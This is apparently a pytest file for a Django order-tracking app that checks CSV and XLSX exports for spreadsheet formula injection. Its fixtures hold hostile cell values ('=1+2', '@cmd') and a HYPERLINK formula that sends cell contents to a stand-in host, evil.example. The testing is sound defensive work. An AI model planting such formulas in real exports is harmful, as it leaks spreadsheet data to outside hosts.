"""CSV exports never hand a spreadsheet a formula (issue 9, section 3); XLSX keeps text as text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from tests.conftest import make_user
from tower.csv_safe import neutralise, neutralise_frame
from tower.orders.models import OrderLine
from tower.performance import services

HOSTILE = """
client,order,line,product,ordered_qty,committed_date,status,delivered_date,delivered_qty
ACME,=1+2,1,AMX,10,2026-03-10,closed,2026-03-10,10
ACME,+SUM(A1:A9),1,AMX,10,2026-03-10,closed,2026-03-10,10
ACME,-2+3,1,AMX,10,2026-03-10,closed,2026-03-10,10
ACME,@cmd,1,AMX,10,2026-03-10,closed,2026-03-10,10
ACME,-5,1,AMX,10,2026-03-10,closed,2026-03-20,10
"""
COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"details")'


def test_the_helper_prefixes_formula_starts_and_leaves_numbers_alone():
    assert neutralise("=1+2") == "'=1+2"
    assert neutralise("+SUM(A1)") == "'+SUM(A1)"
    assert neutralise("-2+3") == "'-2+3"
    assert neutralise("@cmd") == "'@cmd"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("\r=1") == "'\r=1"
    assert (
        neutralise("-5") == "-5" and neutralise("-12.5") == "-12.5" and neutralise("+3e2") == "+3e2"
    )
    assert neutralise("PO-1") == "PO-1" and neutralise("") == ""
    import polars as pl

    frame = pl.DataFrame({"text": ["=x", "ok", None], "number": [-1.5, 2.0, None]})
    assert neutralise_frame(frame).to_dict(as_series=False) == {
        "text": ["'=x", "ok", None],
        "number": [-1.5, 2.0, None],
    }


def _hostile_lines(acme, write_csv, run_import):
    report = run_import(write_csv(HOSTILE, "hostile.csv"), create_missing=True)
    assert report.ok, report.errors
    admin = make_user("boss", admin=True)
    late = OrderLine.objects.get(client=acme, order__number="-5")
    services.propose_root_cause(line=late, code="MFG-EQUIPMENT", comment=COMMENT, user=admin)
    return admin


def test_lines_csv_download_neutralises_order_numbers_and_comments(
    acme, write_csv, run_import, client
):
    admin = _hostile_lines(acme, write_csv, run_import)
    client.force_login(admin)
    response = client.get("/lines/export.csv?from=2026-03&to=2026-03")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(r["order"] for r in rows) == sorted(
        ["'=1+2", "'+SUM(A1:A9)", "'-2+3", "'@cmd", "-5"]
    )
    [late] = [r for r in rows if r["order"] == "-5"]
    assert late["root_cause_comment"] == "'" + COMMENT
    # No cell of the file starts a formula; numbers stay numbers.
    cells = [v for r in rows for v in r.values() if v]
    assert not [v for v in cells if v[0] in "=+@" or (v[0] == "-" and v != "-5")]
    assert late["ordered_qty"] in ("10.0", "10")


def test_lines_xlsx_download_keeps_formula_like_text_as_text(acme, write_csv, run_import, client):
    admin = _hostile_lines(acme, write_csv, run_import)
    client.force_login(admin)
    response = client.get("/lines/export.xlsx?from=2026-03&to=2026-03")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    orders = [row[header.index("order")] for row in sheet.iter_rows(min_row=2)]
    # Stored as text cells ("s"), never formulas ("f"), and exactly as imported.
    assert sorted(c.value for c in orders) == sorted(["=1+2", "+SUM(A1:A9)", "-2+3", "@cmd", "-5"])
    assert {c.data_type for c in orders} == {"s"}


def test_command_line_csv_and_error_reports_are_neutralised(acme, write_csv, run_import, tmp_path):
    _hostile_lines(acme, write_csv, run_import)
    out = io.StringIO()
    call_command("outcomes", "--client", "ACME", "--format", "csv", stdout=out)
    orders = [r["order"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
    assert sorted(orders) == sorted(["'=1+2", "'+SUM(A1:A9)", "'-2+3", "'@cmd", "-5"])

    bad = write_csv(
        "client,order,line,product,ordered_qty,committed_date\nACME,X,1,AMX,=2+5,2026-03-10\n",
        "bad.csv",
    )
    errors = tmp_path / "errors.csv"
    with pytest.raises(CommandError, match="nothing was written"):
        call_command(
            "import_lines",
            str(bad),
            "--errors-to",
            str(errors),
            stdout=io.StringIO(),
            stderr=io.StringIO(),
        )
    [row] = list(csv.DictReader(errors.open()))
    assert row["value"] == "'=2+5"
